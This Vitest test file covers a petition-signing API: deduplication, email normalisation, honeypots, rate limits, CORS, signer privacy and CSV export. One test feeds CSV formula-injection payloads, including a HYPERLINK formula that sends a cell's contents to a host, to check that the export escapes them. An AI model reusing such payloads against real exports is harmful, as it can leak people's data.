// "Sign Our Petition": the public signing endpoint counts exactly, answers first and repeat
// signatures alike, stores nothing for bots, and refuses closed, expired, external and
// unpublished petitions.
import type { Payload } from 'payload'

import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { api, type Api, invalidPaths } from '../helpers/api'
import { seedRoleClients, type RoleClients } from '../helpers/seedUsers'
import { startTestPayload, type TestPayload } from '../helpers/testPayload'
import { startTestServer, type TestServer } from '../helpers/testServer'
import { startTestStack, type TestStack } from '../helpers/testStack'
import { until } from '../helpers/wait'
import { skipOnEmulator } from '../helpers/mongoEmulator'
import { type MigrationDatabase, respellSignerEmails } from '../../collections/petitions/migrations/respellSignerEmails'
import { addToSignatureCounts, sqlTable } from '../../collections/petitions/signing/signatureCounter'
import { MANAGE_SIGNATURE, signLink } from '../../collections/petitions/confirmations/signatureLinks'

let stack: TestStack
let payload: Payload
let visitor: Api
let as: RoleClients

beforeAll(async () => {
  // Every test signer comes from one address: these tests lift the flood limits, the flood tests set them low.
  stack = await startTestStack({
    env: { CORS_ORIGINS: 'https://static.example.test', SIGN_RATE_PER_IP: '100000' },
  })
  payload = stack.payload
  visitor = api(stack.server.url)
  as = await seedRoleClients(payload, stack.server.url)
})
afterAll(async () => {
  await stack?.close()
})

/** What the signer's own email link does (signer-email.test.ts follows the real email): confirm the signature. */
async function confirmFromEmail(petitionId: number | string, email: string) {
  const { docs } = await payload.find({ collection: 'signatures', where: { and: [{ petition: { equals: petitionId } }, { email: { equals: email } }] } })
  const token = signLink(payload.secret, { expiresAt: new Date(Date.now() + 60_000), purpose: MANAGE_SIGNATURE, signatureId: String(docs[0]!.id) }, email)
  return visitor.rest('POST', '/signatures/manage', { action: 'confirm', token })
}

let serial = 0
async function petition(data: Record<string, unknown> = {}) {
  serial += 1
  return payload.create({ collection: 'petitions', data: { _status: 'published', goal: 500, title: `Petition ${serial}`, ...data } as any })
}
const sign = (id: number | string, body: Record<string, unknown>) => visitor.rest('POST', `/petitions/${id}/sign`, body)
const signer = (n: number, extra: Record<string, unknown> = {}) => ({ email: `signer${n}@example.org`, name: `Signer ${n}`, ...extra })
const rows = async (id: number | string, email?: string) =>
  (
    await payload.find({
      collection: 'signatures',
      limit: 0,
      pagination: false,
      where: { and: [{ petition: { equals: id } }, ...(email ? [{ email: { equals: email } }] : [])] },
    })
  ).docs

describe('signing', () => {
  it('answers 202 {}; a repeat gets the same bytes and changes nothing stored (a stranger may type your email)', async (context) => {
    skipOnEmulator(context, 'it lists unique indexes but does not enforce them', 'standalone')
    const { id } = await petition()
    const signed = (body: Record<string, unknown>) => fetch(`${stack.server.url}/api/petitions/${id}/sign`, { body: JSON.stringify(body), headers: { 'content-type': 'application/json' }, method: 'POST' })
    const first = await signed(signer(1, { comment: 'First words', consent: true }))
    expect(first.status).toBe(202)
    const firstBytes = await first.text()
    expect(JSON.parse(firstBytes)).toEqual({})
    // Its confirmation email is sent after the answer (the console logs it here): let that settle first.
    await until(async () => (await rows(id))[0]?.confirmationSentAt)
    const before = await rows(id)
    const repeat = await signed({ ...signer(1), comment: 'Second thoughts', consent: false, email: '  SIGNER1@Example.org ', name: 'Someone Else', showName: true })
    expect(repeat.status).toBe(first.status)
    expect(await repeat.text()).toBe(firstBytes)
    const stored = await rows(id)
    expect(stored).toEqual(before)
    expect(stored[0]).toMatchObject({ comment: 'First words', consent: true, email: 'signer1@example.org', name: 'Signer 1', showName: false })
    // The public wall does not show a name the signer never chose to show.
    expect(JSON.stringify((await visitor.rest('GET', `/petitions/${id}/signers`)).body)).not.toContain('Someone Else')
  })

  it('without SMTP_URL and EMAIL_FROM, start-up says emails only go to the log, and the confirmation is logged', async () => {
    expect(stack.server.output()).toContain('Email: SMTP_URL and EMAIL_FROM are not set')
    const { id } = await petition({ title: 'Logged petition' })
    await sign(id, signer(20))
    await until(() => stack.server.output().includes("To: 'signer20@example.org', Subject: 'Your signature: Logged petition'"))
  })

  it('stores the opt-in with its time and wording, and the address only as a hash', async () => {
    const { id } = await petition({ consentText: 'Send me updates about the river.' })
    const before = Date.now()
    await sign(id, signer(2, { consent: true, showName: true }))
    const [row] = await rows(id)
    expect(row!.consent).toBe(true)
    expect(row!.consentText).toBe('Send me updates about the river.')
    expect(new Date(row!.consentAt!).getTime()).toBeGreaterThanOrEqual(before - 1000)
    expect(row!.ipHash).toMatch(/^[\w-]{43}$/)
    expect(JSON.stringify(row)).not.toMatch(/127\.0\.0\.1|::1/)
  })

  it('keeps no opt-in unless the signer ticks it', async () => {
    const { id } = await petition()
    await sign(id, signer(3))
    const [row] = await rows(id)
    expect(row).toMatchObject({ consent: false, consentAt: null, consentText: null, showName: false })
  })

  it('answers a filled honeypot like anyone, and stores nothing', async () => {
    const { id } = await petition()
    await sign(id, signer(4))
    const bot = await sign(id, signer(5, { website: 'https://spam.example' }))
    expect(bot.status).toBe(202)
    expect(bot.body).toEqual({})
    expect(await rows(id, 'signer5@example.org')).toHaveLength(0)
  })

  it('refuses bad input with 400s naming the field, storing nothing', async () => {
    const { id } = await petition()
    const malformed = await sign(id, signer(6, { email: 'not-an-address' }))
    expect(malformed.status).toBe(400)
    expect(invalidPaths(malformed.body)).toEqual(['email'])
    const nameless = await sign(id, { email: 'x@example.org' })
    expect(nameless.status).toBe(400)
    expect(invalidPaths(nameless.body)).toEqual(['name'])
    const wrongTypes = await sign(id, signer(7, { consent: 'yes', country: 'x'.repeat(61) }))
    expect(invalidPaths(wrongTypes.body).sort()).toEqual(['consent', 'country'])
    expect(await rows(id)).toHaveLength(0)
  })
})

describe('one mailbox, one signer: emails are stored with their domain in ASCII', () => {
  it('the Unicode, punycode, upper-case and decomposed spellings of one address make one signature', async (context) => {
    skipOnEmulator(context, 'it lists unique indexes but does not enforce them', 'standalone')
    const { id } = await petition()
    const spellings = ['ana@bücher.example', 'ana@xn--bcher-kva.example', ' ANA@BÜCHER.EXAMPLE ', 'ana@bu\u0308cher.example', 'ana@ｂücher.example']
    const answers = []
    for (const email of spellings) answers.push(await sign(id, { email, name: `Ana ${answers.length}` }))
    expect(answers.map((answer) => answer.status)).toEqual([202, 202, 202, 202, 202])
    const stored = await rows(id)
    expect(stored.map((row) => ({ email: row.email, name: row.name }))).toEqual([{ email: 'ana@xn--bcher-kva.example', name: 'Ana 0' }])
    expect((await payload.findByID({ collection: 'petitions', id })).signatureCount).toBe(1)
    // The same spelling through the admin's pipeline: refused as a duplicate, naming the field.
    const byAdmin = await as.admin.rest('POST', '/signatures', { email: 'Ana@Bücher.example', name: 'Ana Again', petition: id })
    expect(byAdmin.status).toBe(400)
    expect(invalidPaths(byAdmin.body)).toEqual(['email'])
  })

  it('a Unicode address entered by an admin is stored in ASCII; a domain with no ASCII form is a 400 naming email, at both doors', async () => {
    const { id } = await petition()
    const entered = await as.admin.rest('POST', '/signatures', { email: 'Bo@Bücher.example', name: 'Bo', petition: id })
    expect(entered.status).toBe(201)
    expect((entered.body as { doc: { email: string } }).doc.email).toBe('bo@xn--bcher-kva.example')
    // `xn--zz` claims to be punycode and is not; a space is no domain character.
    for (const email of ['cy@xn--zz.example', 'cy@exa mple.example']) {
      const signed = await sign(id, { email, name: 'Cy' })
      expect(signed.status, email).toBe(400)
      expect(invalidPaths(signed.body), email).toEqual(['email'])
      const byAdmin = await as.admin.rest('POST', '/signatures', { email, name: 'Cy', petition: id })
      expect(byAdmin.status, email).toBe(400)
      expect(invalidPaths(byAdmin.body), email).toEqual(['email'])
    }
    expect((await rows(id)).map((row) => row.email)).toEqual(['bo@xn--bcher-kva.example'])
  })

  it('erasing by the Unicode spelling erases the stored signature', async () => {
    const { id } = await petition()
    expect((await sign(id, { email: 'dee@xn--bcher-kva.example', name: 'Dee' })).status).toBe(202)
    const erased = await as.admin.rest('POST', '/signatures/erase', { email: 'Dee@Bücher.example' })
    expect(erased.body).toEqual({ erased: 1 })
    expect(await rows(id)).toHaveLength(0)
  })
})

describe('signatures stored before emails had one spelling', () => {
  it('the migration respells Unicode domains; two rows of one mailbox on a petition become one, the counter follows', async (context) => {
    skipOnEmulator(context, 'the migration is SQL (SQLite, PostgreSQL); the MongoDB adapter runs no migrations here')
    const [first, second] = [await petition(), await petition()]
    const now = new Date().toISOString()
    const stored = (on: number | string, email: string, extra: Record<string, unknown> = {}) => ({
      consent: false, createdAt: now, email, name: email, petition: on, showName: false, updatedAt: now, ...extra,
    })
    // Written below the sign path, as it stored them before: each spelling as typed.
    const drizzle = (payload.db as unknown as { drizzle: any }).drizzle
    await drizzle.insert(sqlTable(payload, 'signatures')).values([
      stored(first.id, 'eve@xn--bcher-kva.example'),
      stored(first.id, 'eve@bücher.example', { consent: true, consentAt: now, consentConfirmedAt: now, consentText: 'Keep me posted' }),
      stored(first.id, 'fay@bücher.example'),
      stored(second.id, 'eve@bu\u0308cher.example'),
      stored(second.id, 'gus@exa mple.bücher'),
    ])
    await addToSignatureCounts(payload, new Map([[first.id, 3], [second.id, 2]]), undefined)
    const database = { db: drizzle, dialect: payload.db.name === 'postgres' ? 'postgres' : 'sqlite' } as MigrationDatabase
    await respellSignerEmails(database)
    const byEmail = async (id: number | string) => (await rows(id)).sort((a, b) => a.email.localeCompare(b.email))
    expect((await byEmail(first.id)).map(({ consent, consentConfirmedAt, email, name }) => ({ confirmed: Boolean(consentConfirmedAt), consent, email, name }))).toEqual([
      // The earlier row stays, carrying the opt-in its mailbox confirmed on the row that went.
      { confirmed: true, consent: true, email: 'eve@xn--bcher-kva.example', name: 'eve@xn--bcher-kva.example' },
      { confirmed: false, consent: false, email: 'fay@xn--bcher-kva.example', name: 'fay@bücher.example' },
    ])
    // A domain with no ASCII form is left as it was.
    expect((await byEmail(second.id)).map((row) => row.email)).toEqual(['eve@xn--bcher-kva.example', 'gus@exa mple.bücher'])
    const counters = await Promise.all([first, second].map(async ({ id }) => (await payload.findByID({ collection: 'petitions', id })).signatureCount))
    expect(counters).toEqual([2, 2])
    // Run again, nothing is left to do.
    expect(await respellSignerEmails(database)).toEqual({ merge: [], respell: [] })
  })
})

describe('petitions that cannot be signed here', () => {
  it('closed, expired and external petitions answer 409 with the reason; nothing is stored', async () => {
    const closed = await petition({ status: 'closed' })
    const expired = await petition({ closesAt: new Date(Date.now() - 60_000).toISOString() })
    const external = await petition({ externalUrl: 'https://petitions.example.org/river' })
    const answers = await Promise.all([closed, expired, external].map(({ id }) => sign(id, signer(8))))
    expect(answers.map((answer) => answer.status)).toEqual([409, 409, 409])
    expect(JSON.stringify(answers[0]!.body)).toContain('closed')
    expect(JSON.stringify(answers[1]!.body)).toContain('closed on')
    expect(JSON.stringify(answers[2]!.body)).toContain('https://petitions.example.org/river')
    for (const { id } of [closed, expired, external]) expect(await rows(id)).toHaveLength(0)
  })

  it('an unpublished or missing petition answers 404, as if it did not exist', async () => {
    const draft = await payload.create({ collection: 'petitions', data: { _status: 'draft', title: 'Not yet' }, draft: true })
    expect((await sign(draft.id, signer(9))).status).toBe(404)
    // An id of the engine's kind (a number on SQL, an ObjectId on MongoDB) that names no petition.
    expect((await sign(typeof draft.id === 'number' ? 987654 : 'f'.repeat(24), signer(9))).status).toBe(404)
    expect(await rows(draft.id)).toHaveLength(0)
  })
})

describe('exact counts under load', () => {
  it('50 concurrent distinct signers add exactly 50', async () => {
    const { id } = await petition()
    const answers = await Promise.all(Array.from({ length: 50 }, (_, n) => sign(id, signer(100 + n))))
    expect(answers.filter((answer) => answer.status !== 202)).toEqual([])
    expect(await rows(id)).toHaveLength(50)
    expect((await visitor.rest('GET', `/petitions/${id}`)).body.signatureCount).toBe(50)
  })

  it('one email sent 10 times at once adds one signature', async (context) => {
    skipOnEmulator(context, 'it lists unique indexes but does not enforce them', 'standalone')
    const { id } = await petition()
    const answers = await Promise.all(Array.from({ length: 10 }, () => sign(id, signer(200))))
    expect(answers.map((answer) => answer.status)).toEqual(Array(10).fill(202))
    expect(await rows(id)).toHaveLength(1)
    expect((await visitor.rest('GET', `/petitions/${id}`)).body.signatureCount).toBe(1)
  })
})

describe('what the public sees of signers', () => {
  it('lists first name, country and time, only for signers who chose to be shown and confirmed from their email', async () => {
    const { id } = await petition()
    await sign(id, signer(300, { country: 'Kenya', name: 'Wanjiru Kamau', showName: true }))
    await sign(id, signer(301, { country: 'Chile', name: 'Hidden Person' }))
    const wall = () => visitor.rest('GET', `/petitions/${id}/signers`)
    // Anyone could have typed that email: nobody is listed before the mailbox's owner confirms.
    expect((await wall()).body.docs).toEqual([])
    for (const n of [300, 301]) expect((await confirmFromEmail(id, `signer${n}@example.org`)).status).toBe(200)
    const list = await wall()
    expect(list.status).toBe(200)
    expect(list.body.docs).toHaveLength(1)
    expect(list.body.docs[0]).toEqual({ country: 'Kenya', firstName: 'Wanjiru', signedAt: expect.any(String) })
    expect(JSON.stringify(list.body)).not.toMatch(/Kamau|signer30|Hidden/)
  })

  it('never shows a name a stranger signed with: the wall tells no one whether an email had signed', async () => {
    const { id } = await petition()
    await sign(id, signer(320, { name: 'Real Owner', showName: true }))
    expect((await confirmFromEmail(id, 'signer320@example.org')).status).toBe(200)
    // The stranger's marker names: on an email that had signed, and on one that had not.
    await sign(id, signer(320, { name: 'Markerone Probe', showName: true }))
    await sign(id, signer(321, { name: 'Markertwo Probe', showName: true }))
    const wall = JSON.stringify((await visitor.rest('GET', `/petitions/${id}/signers`)).body)
    expect(wall).toContain('Real')
    expect(wall).not.toMatch(/Marker/)
  })

  it('lists a signature an editor enters (the editor vouches for it)', async () => {
    const { id } = await petition()
    const entered = await as.admin.rest('POST', '/signatures', { email: 'paper-wall@example.org', name: 'Paula Paper', petition: id, showName: true })
    expect(entered.status).toBe(201)
    expect((await visitor.rest('GET', `/petitions/${id}/signers`)).body.docs.map((doc: any) => doc.firstName)).toEqual(['Paula'])
  })

  it('gives no anonymous door to a signer’s email: REST, depth, joins, GraphQL', async () => {
    const { id } = await petition()
    await sign(id, signer(310))
    const doors = [
      await visitor.rest('GET', '/signatures'),
      await visitor.rest('GET', `/petitions/${id}?depth=3`),
      await visitor.rest('GET', `/petitions/${id}/signers`),
      await visitor.gql('{ Signatures { docs { email } } }'),
    ]
    for (const door of doors) expect(JSON.stringify(door.body)).not.toContain('signer310@example.org')
  })
})

describe('editors and admins', () => {
  it('export every signer as CSV with the opt-in fields (editors and admins only)', async () => {
    const { id } = await petition({ consentText: 'Updates, please.' })
    for (let n = 0; n < 3; n++) await sign(id, signer(400 + n, { comment: n === 0 ? 'Quote "this", please' : undefined, consent: n !== 1 }))
    const response = await fetch(`${stack.server.url}/api/petitions/${id}/signatures.csv`, { headers: { Authorization: `JWT ${as.editor.token}` } })
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toContain('text/csv')
    const lines = (await response.text()).replace(/^\uFEFF/, '').trim().split('\n')
    expect(lines[0]).toBe('name,email,postalCode,country,comment,consent,consentAt,consentConfirmedAt,consentText,showName,signedAt,confirmedAt')
    expect(lines).toHaveLength(4)
    expect(lines.join('\n')).toContain('"Quote ""this"", please"')
    // Ticked but not yet confirmed from the signer's email: not consent (signer-email.test.ts confirms).
    expect(lines.filter((line) => line.includes(',yes,') || line.includes('Updates, please.'))).toHaveLength(0)
    for (const role of ['anonymous', 'author'] as const) {
      const refused = await fetch(`${stack.server.url}/api/petitions/${id}/signatures.csv`, {
        headers: as[role].token ? { Authorization: `JWT ${as[role].token}` } : {},
      })
      expect(refused.status, role).toBe(403)
    }
  })

  it('the CSV never carries a formula: signer text starting with = + - @ or a tab is escaped', async () => {
    const { id } = await petition()
    const hostile = { comment: '-2+3', country: '+SUM(1,2)', name: '=HYPERLINK("http://127.0.0.1/x?"&A2,"Click")', postalCode: '@A1' }
    expect((await sign(id, signer(450, hostile))).status).toBeLessThan(300)
    // The sign form trims leading tabs and returns; an editor's copy in the admin may still hold one.
    expect((await sign(id, signer(451, { name: 'Plain Name' }))).status).toBeLessThan(300)
    const [plain] = await rows(id, 'signer451@example.org')
    await payload.update({ collection: 'signatures', data: { comment: '\tcmd' }, id: plain!.id })
    const response = await fetch(`${stack.server.url}/api/petitions/${id}/signatures.csv`, { headers: { Authorization: `JWT ${as.editor.token}` } })
    const text = (await response.text()).replace(/^\uFEFF/, '')
    expect(text).toContain(`"'=HYPERLINK(""http://127.0.0.1/x?""&A2,""Click"")"`)
    for (const cell of ["'+SUM(1", "'@A1", "'-2+3", "'\tcmd"]) expect(text).toContain(cell)
    // No cell starts with a formula character: after a delimiter or a line start, optionally quoted.
    expect(text).not.toMatch(/(^|[,\n])"?[=+@\t-]/)
    expect(text).toContain('Plain Name')
  })

  it('erase a person’s signatures on every petition (admins only); counts follow', async () => {
    const first = await petition()
    const second = await petition()
    await sign(first.id, signer(500))
    await sign(second.id, signer(500))
    await sign(second.id, signer(501))
    expect((await as.editor.rest('POST', '/signatures/erase', { email: 'signer500@example.org' })).status).toBe(403)
    const bad = await as.admin.rest('POST', '/signatures/erase', { email: 'nope' })
    expect(invalidPaths(bad.body)).toEqual(['email'])
    const erased = await as.admin.rest('POST', '/signatures/erase', { email: ' Signer500@example.org ' })
    expect(erased.body).toEqual({ erased: 2 })
    expect(await rows(first.id)).toHaveLength(0)
    expect((await visitor.rest('GET', `/petitions/${second.id}`)).body.signatureCount).toBe(1)
  })
})

describe('a static site on another origin', () => {
  const preflight = (id: number | string, origin: string) =>
    fetch(`${stack.server.url}/api/petitions/${id}/sign`, {
      headers: { 'Access-Control-Request-Headers': 'content-type', 'Access-Control-Request-Method': 'POST', Origin: origin },
      method: 'OPTIONS',
    })

  it('may sign from an origin in CORS_ORIGINS, and only from those', async () => {
    const { id } = await petition()
    const allowed = await preflight(id, 'https://static.example.test')
    expect(allowed.status).toBe(204)
    expect(allowed.headers.get('access-control-allow-origin')).toBe('https://static.example.test')
    expect(allowed.headers.get('access-control-allow-methods')).toContain('POST')
    const other = await preflight(id, 'https://elsewhere.example.test')
    expect(other.headers.get('access-control-allow-origin')).toBeNull()
    const signed = await fetch(`${stack.server.url}/api/petitions/${id}/sign`, {
      body: JSON.stringify(signer(800)),
      headers: { 'Content-Type': 'application/json', Origin: 'https://static.example.test' },
      method: 'POST',
    })
    expect(signed.status).toBe(202)
    expect(signed.headers.get('access-control-allow-origin')).toBe('https://static.example.test')
    // The rest of the API is not opened.
    const list = await fetch(`${stack.server.url}/api/petitions`, { headers: { Origin: 'https://static.example.test' } })
    expect(list.headers.get('access-control-allow-origin')).toBeNull()
  })
})

describe('flood limits', () => {
  let first: TestServer
  let second: TestServer
  let local: TestPayload

  beforeAll(async () => {
    // Two server processes on one database: the counts are kept where both see them.
    const limited = { SIGN_RATE_PER_IP: '6' }
    first = await startTestServer({ env: limited })
    second = await startTestServer({ env: { ...limited, DATABASE_URI: first.database!.uri } })
    local = await startTestPayload({ database: first.database })
  })
  afterAll(async () => {
    await local?.close()
    await second?.stop()
    await first?.stop()
  })

  const target = async (title: string) => local.payload.create({ collection: 'petitions', data: { _status: 'published', title } })
  const signAt = (server: TestServer, id: number | string, body: Record<string, unknown>) =>
    fetch(`${server.url}/api/petitions/${id}/sign`, { body: JSON.stringify(body), headers: { 'Content-Type': 'application/json' }, method: 'POST' })
  const count = async (id: number | string) => (await local.payload.count({ collection: 'signatures', where: { petition: { equals: id } } })).totalDocs

  it('per address: past the limit within the minute, 429 and Retry-After, nothing stored', async (context) => {
    skipOnEmulator(context, "rate-limiter-flexible's MongoDB store counts through an upsert that relies on a unique index on the key, which it does not enforce: the limit never trips")
    const { id } = await target('Address flood')
    const statuses = []
    for (let n = 0; n < 6; n++) statuses.push((await signAt(n % 2 ? second : first, id, signer(701 + n))).status)
    expect(statuses).toEqual([202, 202, 202, 202, 202, 202])
    const refused = await signAt(first, id, signer(710))
    expect(refused.status).toBe(429)
    const wait = Number(refused.headers.get('retry-after'))
    expect(wait).toBeGreaterThanOrEqual(1)
    expect(wait).toBeLessThanOrEqual(60)
    expect(await count(id)).toBe(6)
  })
})

describe('one email, many tries: the answer never depends on what that email did before', () => {
  let server: TestServer
  let local: TestPayload

  beforeAll(async () => {
    // No email setting at all: whatever the default once limited must not show in the answer.
    server = await startTestServer({ env: { SIGN_RATE_PER_IP: '100000' } })
    local = await startTestPayload({ database: server.database })
  })
  afterAll(async () => {
    await local?.close()
    await server?.stop()
  })

  const target = async (title: string) => (await local.payload.create({ collection: 'petitions', data: { _status: 'published', title } })).id
  const signAt = async (id: number | string, body: Record<string, unknown>) => {
    const answer = await fetch(`${server.url}/api/petitions/${id}/sign`, { body: JSON.stringify(body), headers: { 'Content-Type': 'application/json' }, method: 'POST' })
    return `${answer.status} ${answer.headers.get('retry-after') ?? ''} ${await answer.text()}`
  }

  it('a stranger cannot tell an email that signed from one that did not: the same answers on five petitions', async () => {
    // The owner of this address signed one petition themselves.
    expect(await signAt(await target('Their own cause'), signer(900))).toBe('202  {}')
    const probed: string[] = []
    const fresh: string[] = []
    for (let n = 0; n < 5; n++) {
      const id = await target(`Probe ${n}`)
      probed.push(await signAt(id, signer(900)))
      fresh.push(await signAt(id, signer(901)))
    }
    expect(probed).toEqual(fresh)
    expect(probed).toEqual(Array(5).fill('202  {}'))
  })

  it("a stranger's posts of someone's email do not lock its owner out: their own signature is taken and counted", async () => {
    for (let n = 0; n < 4; n++) expect(await signAt(await target(`Strangers ${n}`), signer(910, { name: 'A Stranger' }))).toBe('202  {}')
    const theirs = await target('What the owner wants to sign')
    expect(await signAt(theirs, signer(910))).toBe('202  {}')
    const stored = await local.payload.find({ collection: 'signatures', where: { petition: { equals: theirs } } })
    expect(stored.docs.map((doc) => ({ email: doc.email, name: doc.name }))).toEqual([{ email: 'signer910@example.org', name: 'Signer 910' }])
    expect((await local.payload.findByID({ collection: 'petitions', id: theirs })).signatureCount).toBe(1)
  })

  it("a bot's honeypot posts store nothing, and the person whose email it typed still signs", async () => {
    const { id } = await local.payload.create({ collection: 'petitions', data: { _status: 'published', title: 'Honeypot and limit' } })
    const sign = (body: Record<string, unknown>) =>
      fetch(`${server.url}/api/petitions/${id}/sign`, { body: JSON.stringify(body), headers: { 'Content-Type': 'application/json' }, method: 'POST' })
    for (let i = 0; i < 3; i++) expect((await sign(signer(800, { name: 'Bot', website: 'https://spam.example' }))).status).toBe(202)
    expect((await sign(signer(800))).status).toBe(202)
    const stored = await local.payload.find({ collection: 'signatures', where: { petition: { equals: id } } })
    expect(stored.docs.map((doc) => doc.name)).toEqual(['Signer 800'])
  })
})
